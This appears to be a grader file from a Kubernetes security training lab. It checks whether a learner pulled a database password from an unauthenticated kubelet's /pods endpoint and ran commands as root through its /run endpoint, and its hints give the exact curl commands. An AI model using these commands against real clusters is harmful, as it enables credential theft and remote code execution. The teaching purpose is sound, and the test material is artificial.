// What lesson 4 grades: what was carried away from the open ship, and the answer of the guarded one.

import type { Check } from "#sandbox/grader/check.ts";
import { boardingParty, harbourPilot } from "../../_kit/callers.ts";

const loot = { kind: "file", on: "outsider", path: "/home/pirate/loot" } as const;
const noLoot = {
  when: { exists: { is: false } },
  say: "There is no file `loot` in the outsider’s home yet. `> loot` begins it, `>> loot` adds to it.",
} as const;
const plainHttp = {
  when: { content: { has: "Client sent an HTTP request to an HTTPS server" } },
  say: "`loot` holds the kubelet’s complaint about plain http. 10250 speaks TLS only: the address begins with https.",
} as const;

export const checks: readonly Check[] = [
  {
    id: "cargo-taken",
    step: "cargo",
    goal: "Carry the password of `web` away in the file `loot` on the outsider.",
    probe: loot,
    expect: { content: { has: "hunter2" } },
    passed: "A password, and nobody was asked for a name.",
    failures: [
      noLoot,
      plainHttp,
      {
        when: { content: { has: "404 page not found" } },
        say: "`loot` holds a 404: there is no such path. The list of pods is at `/pods`, without `/api` before it.",
      },
      {
        when: { content: { has: "Unauthorized" } },
        say: "`loot` holds `Unauthorized`. That is the guarded ship, node02; the open one is node01.",
      },
      {
        when: { content: { is: "" } },
        say: "`loot` is empty: the call got no answer, or the search found nothing in it.",
      },
    ],
    hints: {
      nudge: "What does a pod’s specification say about its environment?",
      pointer: "`curl -sk https://node01:10250/pods` has it all in one line; `tr , '\\n'` breaks it up for grep.",
      solution: {
        text: "On the outsider:",
        commands: ["curl -sk https://node01:10250/pods | tr , '\\n' | grep -A1 DB_PASSWORD > loot"],
      },
    },
  },
  {
    id: "order-given",
    step: "order",
    goal: "Run `id` in the container `web` through the kubelet, and add the answer to `loot`.",
    probe: loot,
    expect: { content: { has: "uid=0(root)" } },
    passed: "Root in a container, by one POST.",
    failures: [
      noLoot,
      {
        when: { content: { has: "executable file not found" } },
        say: "The kubelet ran an empty command: it reads `?cmd=` in the address, and not the body that `-d` sends.",
      },
      {
        when: { content: { has: "405" } },
        say: "`loot` holds 405: `/run` wants POST, and this was a GET.",
      },
      {
        when: { content: { has: "pod does not exist" } },
        say: "The kubelet knows no such pod. A static pod carries its node’s name: `web-node01`.",
      },
      plainHttp,
      { when: {}, say: "`loot` has no `uid=0(root)` yet. Was it written over by a later `>`?" },
    ],
    hints: {
      nudge: "An order is a POST, and it names namespace, pod and container.",
      pointer:
        "`/run/default/web-node01/web?cmd=id`, with `-X POST`. Quote the address, for the shell reads `?` and `&`.",
      solution: {
        text: "On the outsider:",
        commands: ["curl -sk -X POST 'https://node01:10250/run/default/web-node01/web?cmd=id' >> loot"],
      },
    },
  },
  {
    id: "guard-noted",
    step: "other-ship",
    goal: "Write what `node02` answers to the same call, with its status, into `guarded`.",
    probe: { kind: "file", on: "outsider", path: "/home/pirate/guarded" },
    expect: { content: { hasLine: "401" } },
    passed: "401. A guard has an answer for strangers.",
    failures: [
      { when: { exists: { is: false } }, say: "There is no file `guarded` yet." },
      {
        when: { content: { has: "PodList" } },
        say: "`guarded` holds a list of pods: that was node01. The guarded ship is node02.",
      },
      {
        when: { content: { has: "Unauthorized" } },
        say: "`guarded` has the word, and not the status. `-w '%{http_code}'` prints the number.",
      },
      {
        when: { content: { hasLine: "404" } },
        say: "`guarded` holds 404: an unknown path is refused before anybody asks who calls. Ask for `/pods`.",
      },
      { when: {}, say: "`guarded` has no line `401`. Ask node02 on 10250, over https." },
    ],
    hints: {
      nudge: "The word is for people; the number is what programs go by.",
      pointer: "curl prints the status with `-w '%{http_code}'`; a `\\n` before it puts it on a line of its own.",
      solution: {
        text: "On the outsider:",
        commands: ["curl -sk -w '\\n%{http_code}\\n' https://node02:10250/pods > guarded"],
      },
    },
  },
];

export const boarding = boardingParty;

export const pilot = harbourPilot("default/web-node01/web");
